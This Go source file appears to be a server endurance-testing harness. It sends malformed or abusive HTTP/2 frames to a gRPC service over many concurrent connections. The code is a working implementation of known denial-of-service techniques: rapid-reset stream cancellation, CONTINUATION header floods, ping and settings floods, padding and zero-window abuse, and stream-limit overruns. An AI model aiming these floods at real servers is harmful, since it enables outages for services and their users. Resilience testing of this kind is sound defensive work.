package endurance

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"math"
	"net"
	"sync"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attackMain attacks as it is told: what by, where to, how many frames, over how many connections at a time, and how many on
// each of them. It prints how many frames were sent, and how many connections probed has closed.
func attackMain(how string) error {
	var name, address string
	var frames, connections, each int
	if _, err := fmt.Sscan(how, &name, &address, &frames, &connections, &each); err != nil {
		return err
	}
	var sent, closed atomic.Int64
	var attackers sync.WaitGroup
	for range connections {
		attackers.Go(func() {
			for left := frames / connections; left > 0; left -= each {
				n, err := attack(attacks[name], address, min(left, each))
				sent.Add(int64(n))
				if err != nil {
					closed.Add(1)
				}
			}
		})
	}
	attackers.Wait()
	fmt.Println(sent.Load(), closed.Load())
	return nil
}

// attack opens a connection and sends frames on it until all are read, or it is closed.
func attack(by attackFrame, address string, frames int) (sent int, err error) {
	conn, err := net.Dial("tcp", address)
	if err != nil {
		return 0, err
	}
	defer conn.Close()
	a := &attacker{next: 1}
	a.framer = http2.NewFramer(&a.out, conn)
	a.framer.AllowIllegalWrites, a.framer.AllowIllegalReads = true, true
	a.out.WriteString(http2.ClientPreface)
	_ = a.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: math.MaxInt32})
	over := make(chan error, 1)
	go func() { // who does not read is told apart easily
		for {
			frame, err := a.framer.ReadFrame()
			if ping, ok := frame.(*http2.PingFrame); err != nil || ok && ping.IsAck() && ping.Data == lastPing {
				over <- err
				return
			}
		}
	}()
	for ; sent < frames; sent++ {
		by(a, sent, frames)
		if err := a.flush(conn, 8<<10); err != nil {
			return sent, errors.Join(err, conn.Close(), <-over)
		}
	}
	_ = a.framer.WritePing(false, lastPing)
	if err := a.flush(conn, 0); err != nil {
		return sent, errors.Join(err, conn.Close(), <-over)
	}
	return sent, <-over
}

var lastPing = [8]byte{'o', 'v', 'e', 'r'}

// attacker is a connection that speaks HTTP/2 as no client does.
type attacker struct {
	out    bytes.Buffer
	framer *http2.Framer // writes to out
	next   uint32        // stream
	stream uint32        // the one that is open
}

// flush sends when there is more than most.
func (a *attacker) flush(to io.Writer, most int) error {
	if a.out.Len() <= most {
		return nil
	}
	_, err := to.Write(a.out.Bytes())
	a.out.Reset()
	return err
}

// begin begins a call.
func (a *attacker) begin(path string, block []byte) {
	a.stream, a.next = a.next, a.next+2
	_ = a.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: a.stream, BlockFragment: append(headerBlock(path), block...), EndHeaders: block == nil})
}

// headerBlock is that of a call. It means the same each time it is sent.
func headerBlock(path string) []byte {
	var b bytes.Buffer
	encoder := hpack.NewEncoder(&b)
	encoder.SetMaxDynamicTableSize(0)
	for _, field := range []hpack.HeaderField{
		{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: path}, {Name: ":authority", Value: "probed"},
		{Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
	} {
		_ = encoder.WriteField(field) // to a buffer
	}
	return b.Bytes()
}

// attackFrame writes frame i of n.
type attackFrame func(a *attacker, i, n int)

const (
	lookupPath   = "/probe.v1.NameService/LookupPort"
	exchangePath = "/probe.v1.ExchangeService/Exchange"
)

var attacks = map[string]attackFrame{
	// Calls that are given up at once, every other one with its whole request ("rapid reset").
	"resets": func(a *attacker, i, _ int) {
		a.begin(lookupPath, nil)
		if i%2 == 0 {
			_ = a.framer.WriteData(a.stream, true, frame(0, []byte{8, 80}))
		}
		_ = a.framer.WriteRSTStream(a.stream, http2.ErrCodeCancel)
	},
	// A message, byte for byte.
	"bytes": func(a *attacker, i, n int) {
		if i == 0 {
			a.begin(exchangePath, nil)
		}
		b := []byte{0xff} // what the message is made of: it will be none
		if i < 5 {
			b[0] = binary.BigEndian.AppendUint32([]byte{0}, uint32(n))[i]
		}
		_ = a.framer.WriteData(a.stream, false, b)
	},
	// Padding counts for flow control, and is nothing.
	"padding": func(a *attacker, i, _ int) {
		if i == 0 {
			a.begin(exchangePath, nil)
		}
		_ = a.framer.WriteDataPadded(a.stream, false, nil, make([]byte, 200))
	},
	"nothing": func(a *attacker, i, _ int) {
		if i == 0 {
			a.begin(exchangePath, nil)
		}
		_ = a.framer.WriteData(a.stream, false, nil)
	},
	// More calls at a time than there may be.
	"calls": func(a *attacker, _, _ int) { a.begin(exchangePath, nil) },
	// Headers that never end.
	"continuation": func(a *attacker, i, _ int) {
		if i == 0 {
			a.begin(exchangePath, []byte{0, 1, 'x', 1, 'y'})
		}
		_ = a.framer.WriteContinuation(a.stream, false, bytes.Repeat([]byte{0, 1, 'x', 1, 'y'}, 10))
	},
	"pings": func(a *attacker, _, _ int) { _ = a.framer.WritePing(false, [8]byte{}) },
	"settings": func(a *attacker, _, _ int) {
		_ = a.framer.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 1 << 14})
	},
	"priorities": func(a *attacker, i, _ int) {
		_ = a.framer.WritePriority(uint32(i)*2+1, http2.PriorityParam{StreamDep: uint32(i)*2 + 3})
	},
	"windows": func(a *attacker, i, _ int) {
		if i == 0 {
			a.begin(exchangePath, nil)
		}
		_ = a.framer.WriteWindowUpdate(a.stream, uint32(i%2)) // of 0 is an error of the stream, and later of none
	},
	"unknown": func(a *attacker, _, _ int) { _ = a.framer.WriteRawFrame(0xfa, 0, 1, []byte("?")) },
}
